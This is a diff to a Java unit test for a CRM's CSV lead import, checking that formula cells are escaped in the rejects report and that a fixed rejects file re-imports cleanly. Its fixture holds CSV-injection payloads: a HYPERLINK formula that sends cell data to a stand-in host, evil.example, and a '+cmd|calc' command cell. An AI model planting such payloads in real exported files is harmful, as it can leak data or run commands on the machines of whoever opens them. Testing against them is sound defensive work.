@@ -23,11 +23,18 @@ class ImportFormulaCellsTest extends ImportTestSupport {
 
     private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")";
 
+    @Override
+    protected java.util.Properties settings() {
+        java.util.Properties p = new java.util.Properties();
+        p.setProperty("leads.import.unknown-status", "reject"); // a status the CRM lacks: a reject to fix and drop again
+        return p;
+    }
+
     @Test
     void reportsAreSafeToOpenAndAFixedRejectsFileRoundTripsUnchanged() throws Exception {
-        String csv = "Company,Email,Notes,@Header\n"
-                + "Formula Co,f@formula.example.com,\"" + HYPERLINK.replace("\"", "\"\"") + "\",-1+1\n"
-                + "+cmd|calc,not-an-email,@SUM(1+1),=2\n";
+        String csv = "Company,Email,Notes,@Header,Status\n"
+                + "Formula Co,f@formula.example.com,\"" + HYPERLINK.replace("\"", "\"\"") + "\",-1+1,\n"
+                + "+cmd|calc,c@cmd.example.com,@SUM(1+1),=2,Won by a formula\n";
         Map<String, Object> report = importFile("formulas.csv", csv);
         assertEquals("done", report.get("status"));
         assertEquals(1L, count(report, "rejected"));
@@ -41,10 +48,10 @@ class ImportFormulaCellsTest extends ImportTestSupport {
         List<CSVRecord> rejects = rejects("formulas.csv");
         assertEquals("'+cmd|calc", rejects.get(0).get("Company"));
         assertEquals("'@SUM(1+1)", rejects.get(0).get("Notes"));
-        assertTrue(Files.readString(reportFile("formulas.csv", "rejects.csv")).startsWith("Company,Email,Notes,'@Header,error"));
+        assertTrue(Files.readString(reportFile("formulas.csv", "rejects.csv")).startsWith("Company,Email,Notes,'@Header,Status,error"));
 
         // the rejects file fixed in place and dropped again: the cells import as they were before the escape
-        String fixed = Files.readString(reportFile("formulas.csv", "rejects.csv")).replace("not-an-email", "c@cmd.example.com");
+        String fixed = Files.readString(reportFile("formulas.csv", "rejects.csv")).replace("Won by a formula", "");
         Map<String, Object> again = importFile("fixed.csv", fixed);
         assertEquals("done", again.get("status"));
         assertEquals(0L, count(again, "rejected"));
